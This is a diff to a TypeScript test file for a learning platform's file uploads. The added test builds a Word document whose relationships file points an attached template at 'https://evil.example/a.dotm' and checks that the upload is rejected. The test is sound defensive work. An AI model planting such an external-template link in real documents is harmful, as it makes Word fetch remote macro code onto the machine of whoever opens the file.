@@ -10,6 +10,7 @@ import { learnerCourseStatus } from '#contracts/learning/progress.ts'
 import { newId } from '#server/platform/crypto.ts'
 import { sql } from '#server/platform/postgres/database.ts'
 import { type TestLearner, type TestPerson, type World, world } from '#tests/world.ts'
+import { zipOf } from '#tests/zip-of.ts'
 
 let w: World
 let author: TestPerson
@@ -160,6 +161,16 @@ describe('a learner', () => {
     expect((await upload('file', 'a.pdf', active)).body.errors).toEqual({
       file: ['This PDF has programs or files inside. Print it to a new PDF and choose that.'],
     })
+    const fetching = await zipOf([
+      { name: '[Content_Types].xml', content: '<Types/>' },
+      { name: 'word/document.xml', content: '<document/>' },
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content:
+          '<Relationships><Relationship Type="http://schemas.example/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+      },
+    ])
+    expect((await upload('file', 'a.docx', fetching)).body.errors?.file?.[0]).toMatch(/another machine/)
     expect((await upload('file', 'a.pdf', pdf)).status).toBe(200)
     expect((await upload('file', 'b.pdf', pdf)).status).toBe(409)
     expect((await upload('file', 'b.pdf', pdf, await w.learner())).status).toBe(404)
